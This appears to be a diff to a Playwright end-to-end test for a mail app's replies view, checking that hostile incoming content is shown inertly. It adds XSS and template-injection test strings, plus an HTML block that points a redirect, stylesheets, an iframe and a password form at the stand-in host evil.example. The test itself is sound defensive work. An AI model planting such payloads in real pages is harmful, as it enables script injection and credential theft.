@@ -2,17 +2,25 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable
 
 import pytest
 from playwright.sync_api import Page, expect
 
 from app.embedded.postgres import EmbeddedPostgres
+from app.mail.inbound.texts import cleaned
 from tests.support.browser import NARROW, ask, assert_accessible, assert_fits
 from tests.support.filling import come_back
 from tests.support.service import Service, until
 
 ComeBack = Callable[..., int]
+EVIL = "<img src=x onerror=alert(1)>{{7*7}}"
+HOSTILE = """<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/gone">
+<link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css);</style>
+<script>alert(2)</script><svg onload="alert(3)"></svg><iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/form"><input name="password" autofocus onfocus="alert(4)"></form>
+<p onclick="alert(5)" style="background: url(https://evil.example/c.png)">The end of it</p>"""
 HTML = "<p>Gladly, see <b>below</b>.</p><blockquote>Hello Ada</blockquote>"
 
 
@@ -116,3 +124,17 @@ def test_a_reply_is_seen_as_it_comes_and_read_labelled_answered_and_corrected(
     thread.get_by_role("button", name="All responses").click()
     expect(rows.first).to_be_visible()
     assert_fits(inside)
+
+    # What a stranger writes is shown as it is and does nothing: `inside` fails on a script and on a request.
+    inside.goto("/replies")
+    expect(rows.first).to_be_visible()
+    back(bob, "REPLY", f"I say {EVIL}", name=EVIL, subject=EVIL, attachments=[EVIL], html=cleaned(HOSTILE))
+    expect(rows.filter(has_text="Unread")).to_have_count(1)
+    inside.locator("h1").click()
+    inside.keyboard.press("e")
+    expect(thread.get_by_role("heading", name=EVIL)).to_be_visible()
+    expect(thread.get_by_text(f"I say {EVIL}")).to_be_visible()
+    expect(thread.get_by_text(f"With {EVIL}, which")).to_be_visible()
+    thread.get_by_role("button", name="Show as it came").click()
+    expect(thread.frame_locator("iframe").get_by_text("The end of it")).to_be_visible()
+    expect(inside).to_have_url(re.compile(r"/replies\?"))
